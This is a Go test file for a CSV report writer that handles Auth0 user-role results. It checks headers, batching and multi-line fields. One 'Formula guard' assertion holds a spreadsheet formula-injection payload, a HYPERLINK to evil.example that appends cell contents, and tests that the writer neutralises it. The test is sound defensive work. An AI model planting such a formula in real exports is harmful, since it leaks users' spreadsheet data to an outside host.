package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	require.NoError(t, err)
	return rows
}

func TestCSVHasTheJSONFieldsAndApplyResult(t *testing.T) {
	r := applyReport()
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, r))
	rows := readCSV(t, buf.Bytes())
	require.Len(t, rows, len(r.Results)+1)
	assert.Equal(t, CSVHeader, rows[0])
	for i, res := range r.Results {
		assert.Equal(t, string(res.Status.ApplyResult()), rows[i+1][6])
	}
	// The multi-line reason is kept, line break and all.
	assert.Equal(t, "line one\nline two | with pipe", rows[4][11])
	// Formula guard.
	assert.Equal(t, "'=HYPERLINK(\"https://evil.example/?\"&A2,\"click\")", rows[3][11])
	assert.Equal(t, "2;7", rows[1][10])
}

func TestCSVEmptyAndBatched(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, &Report{Command: "apply"}))
	assert.Equal(t, [][]string{CSVHeader}, readCSV(t, buf.Bytes()))

	r := &Report{Command: "apply"}
	for i := range csvBatch*2 + 3 {
		r.Results = append(r.Results, Result{UserID: fmt.Sprintf("auth0|%d", i), RoleID: "rol_x", Status: Removed, Lines: []int{i + 2}})
	}
	buf.Reset()
	require.NoError(t, WriteCSV(&buf, r))
	rows := readCSV(t, buf.Bytes())
	require.Len(t, rows, len(r.Results)+1)
	assert.Equal(t, CSVHeader, rows[0], "one header only")
	assert.Equal(t, "auth0|8194", rows[len(rows)-1][0])
}
